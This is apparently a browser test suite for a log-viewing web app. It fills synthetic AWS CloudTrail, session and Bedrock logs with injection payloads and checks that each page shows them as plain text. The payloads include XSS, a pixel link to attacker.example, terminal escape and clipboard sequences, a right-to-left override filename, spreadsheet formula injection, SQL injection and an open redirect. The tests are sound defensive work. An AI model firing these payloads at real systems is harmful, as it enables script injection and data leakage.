import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { freshFolder } from '../e2e/program.ts'
import { clean, fill, reports, type Site, settled, siteOf } from './browser.ts'

// Log text is written by people who are watched: it must not become elements, links or requests, nor hide
// itself.

const ATTACKS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(2)</script>',
  '"><svg onload=alert(3)>',
  '[click](javascript:alert(4))',
  '![leak](http://attacker.example/pixel.png?secret)',
  'http://attacker.example/',
  '\u202egnp.exe\u2066\u200b',
  '\x1b]8;;http://attacker.example\x07link\x1b]8;;\x07\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b]0;owned\x07',
  '=HYPERLINK("http://attacker.example")',
  "'; drop table cloudtrail; --",
  '{{constructor.constructor("alert(5)")()}}',
]
const ATTACK = ATTACKS.join(' ')
const SESSION = '0a1b2c3d4e5f60718'
const START = '0a1b2c3d-0000-4000-8000-000000000001'

const folder = freshFolder()
const lake = join(folder, 'lake')
let site: Site

function event(id: string, fields: object): object {
  return {
    eventVersion: '1.11',
    userIdentity: {
      type: 'AssumedRole',
      principalId: 'AROAEXAMPLE:x',
      arn: `arn:aws:sts::111122223333:assumed-role/Admin/${ATTACK}`,
      accessKeyId: 'ASIAEXAMPLEEXAMPLE00',
      sessionContext: { sourceIdentity: ATTACK, sessionIssuer: { type: 'Role', userName: ATTACK } },
    },
    eventTime: '2026-01-07T22:16:43Z',
    eventSource: 'ssm.amazonaws.com',
    eventName: 'StartSession',
    awsRegion: 'us-east-1',
    sourceIPAddress: '203.0.113.7',
    userAgent: ATTACK,
    eventID: id,
    eventType: 'AwsApiCall',
    recipientAccountId: '111122223333',
    ...fields,
  }
}

beforeAll(async () => {
  const logs = join(folder, 'logs')
  mkdirSync(logs)
  const records = [
    event(START, {
      requestParameters: { target: ATTACK, reason: ATTACK },
      responseElements: { sessionId: `${ATTACK.slice(0, 20)}-${SESSION}` },
    }),
    event('0a1b2c3d-0000-4000-8000-000000000002', {
      eventTime: '2026-01-07T22:18:00Z',
      eventSource: 's3.amazonaws.com',
      eventName: ATTACK,
      errorCode: ATTACK,
      errorMessage: ATTACK,
      requestParameters: { bucketName: ATTACK, [ATTACK]: { [ATTACK]: [ATTACK] } },
    }),
  ]
  writeFileSync(join(logs, 'trail.json'), JSON.stringify({ Records: records }))
  const line = {
    eventVersion: '1.0',
    eventTime: '2026-01-07T22:17:00Z',
    awsRegion: 'us-east-1',
    target: { id: ATTACK },
    userIdentity: { arn: `arn:aws:sts::111122223333:assumed-role/Admin/${ATTACK}` },
    runAsUser: ATTACK,
    sessionId: `someone-${SESSION}`,
    sessionData: [`sh-5.2$ echo ${ATTACK}`, ATTACK, '\x1b[1;31mred\x1b[0m', 'x'.repeat(1_000_000)],
  }
  const subscription = {
    messageType: 'DATA_MESSAGE',
    owner: '111122223333',
    logGroup: '/aws/ssm/sessions',
    logStream: `someone-${SESSION}`,
    subscriptionFilters: ['all'],
    logEvents: [{ id: '1', timestamp: Date.parse('2026-01-07T22:17:00Z'), message: JSON.stringify(line) }],
  }
  writeFileSync(join(logs, 'session.json'), JSON.stringify(subscription))
  const invocation = {
    schemaType: 'ModelInvocationLog',
    schemaVersion: '1.0',
    timestamp: '2026-01-07T22:20:00Z',
    accountId: '111122223333',
    region: 'us-east-1',
    requestId: '0a1b2c3d-0000-4000-8000-000000000009',
    operation: 'Converse',
    modelId: 'anthropic.claude-sonnet-4-5-20250929-v1:0',
    identity: { arn: `arn:aws:sts::111122223333:assumed-role/Agent/run` },
    input: {
      inputContentType: 'application/json',
      inputBodyJson: {
        system: [{ text: ATTACK }],
        messages: [{ role: 'user', content: [{ text: `${ATTACK}\n${'long '.repeat(200_000)}` }] }],
      },
      inputTokenCount: 10,
    },
    output: {
      outputContentType: 'application/json',
      outputBodyJson: {
        output: {
          message: {
            role: 'assistant',
            content: [
              { text: ATTACK },
              { toolUse: { toolUseId: 't1', name: 'run_tool', input: { [ATTACK]: ATTACK } } },
            ],
          },
        },
        stopReason: 'tool_use',
        usage: { inputTokens: 10, outputTokens: 5 },
      },
      outputTokenCount: 5,
    },
  }
  writeFileSync(join(logs, 'bedrock.json'), JSON.stringify(invocation))
  await fill(lake, logs)
  site = await siteOf(lake)
})

afterEach(() => site?.closePages())
afterAll(() => site?.close())

const PATHS = [
  '/',
  '/reviews?state=all',
  '/sessions',
  `/sessions/${START}`,
  `/sessions/${START}?view=screen`,
  `/sessions/${START}?view=raw`,
  '/sessions?find=onerror',
  '/conversations',
  '/conversations/0a1b2c3d-0000-4000-8000-000000000009',
  '/activity',
  '/activity?e=0a1b2c3d-0000-4000-8000-000000000002&cols=useragent&cols=errormessage',
  `/activity?q=${encodeURIComponent(`errorcode:${ATTACK}`)}`,
  '/findings',
  '/digest',
  '/usage?by=who&by=role',
  `/query?sql=${encodeURIComponent(`select *, '${ATTACKS[0]}' as "${ATTACKS[0]}" from cloudtrail`)}`,
  '/sources',
  '/period',
  '/access',
  `/settings?x=${encodeURIComponent(ATTACK)}`,
  `/sign-in?to=${encodeURIComponent('//attacker.example/')}`,
  `/sessions/${encodeURIComponent(ATTACK)}`,
]

describe('text of a log is text on every page', () => {
  it.each(PATHS)('%s', async (path) => {
    const page = await site.open(path)
    const show = page.getByRole('button', { name: /Show it; that is recorded|show all…/i })
    if (await show.count()) await show.first().click()
    await settled(page)
    const found = await page.evaluate(() => ({
      images: document.querySelectorAll('img, iframe, object, embed, video, audio').length,
      scripts: [...document.scripts].filter((script) => !script.src.startsWith(location.origin)).length,
      handlers: document.querySelectorAll('[onerror], [onload], [onclick]').length,
      links: [...document.querySelectorAll('a')]
        .map((link) => link.href)
        .filter((href) => !href.startsWith(location.origin)),
      title: document.title,
      // Direction marks and invisible characters have to be named.
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
      hidden: /[\u202e\u2066\u200b\u001b\u0007]/.test(document.body.innerText),
    }))
    expect(found).toEqual({
      images: 0,
      scripts: 0,
      handlers: 0,
      links: [],
      title: expect.stringMatching(/ · loglake$/),
      hidden: false,
    })
    // The page of an unknown session says so, and sends no further request.
    expect(reports(page)).toEqual([])
    await clean(page)
  })

  it('shows it as it is', async () => {
    const page = await site.open(`/activity?e=0a1b2c3d-0000-4000-8000-000000000002`)
    expect(await page.getByLabel('The whole record').innerText()).toContain('<img src=x onerror=alert(1)>')
  })
})

describe('much text', () => {
  it('shows a line and a prompt of a megabyte without a long stall', async () => {
    for (const path of [`/sessions/${START}`, '/conversations/0a1b2c3d-0000-4000-8000-000000000009']) {
      const page = await site.open(path)
      // A stalled page would not answer a key.
      await page.keyboard.press('?')
      await page.getByRole('dialog', { name: 'Keys' }).waitFor({ timeout: 10_000 })
      expect(reports(page)).toEqual([])
    }
  })

  it('says how much of a prompt it shows', async () => {
    const page = await site.open('/conversations/0a1b2c3d-0000-4000-8000-000000000009')
    expect(await page.locator('.thread').innerText()).toMatch(/first [\d,]+ of 1,\d{3},\d{3} characters/)
  })
})
